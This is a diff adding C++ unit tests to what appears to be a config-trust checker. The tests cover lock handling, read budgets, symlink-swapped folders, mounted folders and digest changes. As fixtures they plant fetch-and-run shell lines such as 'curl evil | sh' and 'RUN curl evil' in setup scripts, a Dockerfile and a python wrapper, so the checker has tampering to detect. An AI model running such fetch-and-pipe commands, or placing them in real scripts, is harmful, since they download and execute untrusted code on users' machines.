@@ -9,7 +9,10 @@
 
 #include <algorithm>
 #include <chrono>
+#include <fcntl.h>
 #include <fstream>
+#include <future>
+#include <sys/file.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -23,6 +26,27 @@ using testing::Not;
 
 constexpr const char* k_hostile = R"({"targets": {"t1": {
   "server": "user@192.0.2.1", "container": {"build": {"context": "docker"}}, "post_create": ["bash setup.sh"]}}})";
+
+// Counts what is read.
+class CountingFiles final : public FileStore {
+ public:
+  Result<std::optional<std::string>> read(const fs::path& path) override {
+    auto text = disk_.read(path);
+    ++times[path];
+    if (text && *text) bytes += (*text)->size();
+    return text;
+  }
+  Result<void> write(const fs::path& path, std::string_view text, mode_t mode) override {
+    return disk_.write(path, text, mode);
+  }
+  Result<void> remove(const fs::path& path) override { return disk_.remove(path); }
+
+  std::map<fs::path, int> times;
+  std::size_t bytes = 0;
+
+ private:
+  DiskFileStore disk_;
+};
 
 class Trust : public testing::Test {
  protected:
@@ -205,6 +229,119 @@ TEST_F(Trust, WhatWasInUseWhenTheRecordWasBegunIsTakenOverOnce) {
   EXPECT_FALSE(other->trusted) << "one config for each name";
   write("setup.sh", "curl evil | sh\n");
   EXPECT_EQ(state().state, "changed") << "once";
+}
+
+TEST_F(Trust, AConfigIsTakenOverOnlyWhenAllOfItsTargetsWereInUse) {
+  const std::string both = R"({"targets": {"t1": {"container": {"image": "i:1"}},
+                                           "t2": {"container": {"image": "i:1"}, "ssh": {"local_port": 2300}}}})";
+  fs::create_directories(paths.host_keys("t1"));
+  write("helper.json", both);
+  ::usleep(20'000);
+  EXPECT_TRUE(book().list());
+  EXPECT_EQ(state().state, "new") << "a cloned config that has one name in common";
+  fs::remove(paths.trust_record());
+  fs::create_directories(paths.host_keys("t2"));
+  EXPECT_EQ(state().state, "trusted");
+}
+
+TEST_F(Trust, TheRecordIsBegunUnderItsLock) {
+  const int lock = ::open((paths.data / "trust.lock").c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
+  ASSERT_GE(lock, 0);
+  ASSERT_EQ(::flock(lock, LOCK_EX), 0);
+  auto listed = std::async(std::launch::async, [&] { return book().list(); });
+  EXPECT_EQ(listed.wait_for(std::chrono::milliseconds(200)), std::future_status::timeout);
+  EXPECT_FALSE(fs::exists(paths.trust_record()));
+  // Another process has begun it meanwhile.
+  EXPECT_TRUE(files.write(paths.trust_record(), to_text(TrustRecord{"then", 1, {"theirs"}, {}, {}}), 0600));
+  ASSERT_EQ(::flock(lock, LOCK_UN), 0);
+  EXPECT_TRUE(listed.get());
+  const auto text = files.read(paths.trust_record());
+  ASSERT_TRUE(text && *text);
+  EXPECT_THAT(**text, HasSubstr("theirs")) << "what they have begun stays";
+  ::close(lock);
+}
+
+TEST_F(Trust, ALookReadsEachFileOnceAndNoMoreThanItsBudget) {
+  write("setup.sh", "sh one.bin two.bin link1 link2 small\n");
+  write("small", "x");
+  for (const char* large : {"one.bin", "two.bin"}) {
+    write(large, "");
+    fs::resize_file(project() / large, 40U << 20);
+  }
+  fs::create_symlink("small", project() / "link1");
+  fs::create_symlink("small", project() / "link2");
+  CountingFiles counting;
+  const auto its = look_at_config(counting, config(), config::no_variable);
+  ASSERT_TRUE(its) << to_text(its.error());
+  EXPECT_LE(counting.bytes, 64U << 20);
+  EXPECT_EQ(counting.times[fs::canonical(project() / "small")], 1);
+  const auto detail_of = [&](const std::string& file) {
+    for (const auto& power : its->powers) {
+      if (power.text.starts_with("runs or sends the file " + file)) return power.detail;
+    }
+    return std::string("not covered");
+  };
+  EXPECT_THAT(detail_of("two.bin"), HasSubstr("unread 41943040 "));
+  EXPECT_EQ(detail_of("link1"), detail_of("small"));
+  fs::last_write_time(project() / "two.bin", fs::file_time_type::clock::now() + std::chrono::seconds(5));
+  EXPECT_NE(digest(), its->digest) << "what is not read counts by its time";
+}
+
+TEST_F(Trust, FilesOfAConfigThatIsRefusedAreNotRead) {
+  fs::permissions(project(), fs::perms::all | fs::perms::sticky_bit);
+  CountingFiles counting;
+  TrustBook its(paths, counting, clock);
+  const auto refused = its.standing(config(), config::no_variable, true);
+  ASSERT_TRUE(refused) << to_text(refused.error());
+  EXPECT_EQ(report_of(*refused, config()).state, "refused");
+  EXPECT_FALSE(counting.times.contains(fs::canonical(project() / "setup.sh")));
+  const auto shown = its.standing(config(), config::no_variable, false);
+  ASSERT_TRUE(shown) << to_text(shown.error());
+  EXPECT_TRUE(counting.times.contains(fs::canonical(project() / "setup.sh"))) << "who is asked to approve it sees all";
+  ASSERT_TRUE(its.approve(*shown->look, "shown"));
+  EXPECT_TRUE(its.standing(config(), config::no_variable, true)->trusted);
+}
+
+TEST_F(Trust, AFolderThatIsSwappedAfterTheApprovalIsNoLongerApproved) {
+  fs::create_directories(folder.path() / "secret");
+  std::ofstream(folder.path() / "secret" / "Dockerfile") << "FROM scratch\nCOPY start.sh /\n";
+  approve();
+  const std::string let_in = digest();
+  EXPECT_TRUE(book().still_approved(config(), config::no_variable, let_in));
+  fs::rename(project() / "docker", project() / "was");
+  fs::create_directory_symlink(folder.path() / "secret", project() / "docker");
+  const auto swapped = book().still_approved(config(), config::no_variable, let_in);
+  ASSERT_FALSE(swapped);
+  EXPECT_EQ(swapped.error().code, ErrorCode::config_untrusted);
+  EXPECT_THAT(swapped.error().cause, HasSubstr("it has changed since you approved it"));
+  fs::remove(project() / "docker");
+  fs::rename(project() / "was", project() / "docker");
+  EXPECT_TRUE(book().still_approved(config(), config::no_variable, let_in));
+  write("docker/Dockerfile", "FROM scratch\nRUN curl evil\n");
+  EXPECT_FALSE(book().still_approved(config(), config::no_variable, let_in));
+  approve();
+  EXPECT_FALSE(book().still_approved(config(), config::no_variable, let_in)) << "what was let in is not this";
+}
+
+TEST_F(Trust, AFolderThatAFlagMountsIsLookedAtWhereItIs) {
+  fs::create_directories(folder.path() / "secret");
+  fs::create_directory_symlink(folder.path() / "secret", project() / "data");
+  std::ofstream(folder.path() / "secret" / "run.sh") << "echo\n";
+  write("helper.json", R"({"targets": {"t1": {"container": {"image": "i:1", "extra_args": ["-v", ")" +
+                           (project() / "data").string() + R"(:/data"]}, "post_start": ["sh /data/run.sh"]}}})");
+  const auto its = look();
+  const std::string all = config::canonical_text(its.powers);
+  EXPECT_THAT(all, HasSubstr("which leads to " + fs::canonical(folder.path() / "secret").string() + " (OUTSIDE"));
+  EXPECT_THAT(all, HasSubstr("runs or sends the file data/run.sh")) << "a hook runs it where the flag mounts it";
+}
+
+TEST_F(Trust, APythonOfTheProjectCountsByWhatItHolds) {
+  write("helper.json", R"({"targets": {"t1": {"server": "gpu1", "container": {"image": "i:1"},
+                           "python": "/w/tools/py", "project": {"remote": "/w"}}}})");
+  write("tools/py", "#!/bin/sh\n");
+  const std::string before = digest();
+  write("tools/py", "#!/bin/sh\ncurl evil\n");
+  EXPECT_NE(digest(), before);
 }
 
 TEST_F(Trust, AConfigThatCameLaterIsNotTakenOverByATargetsName) {
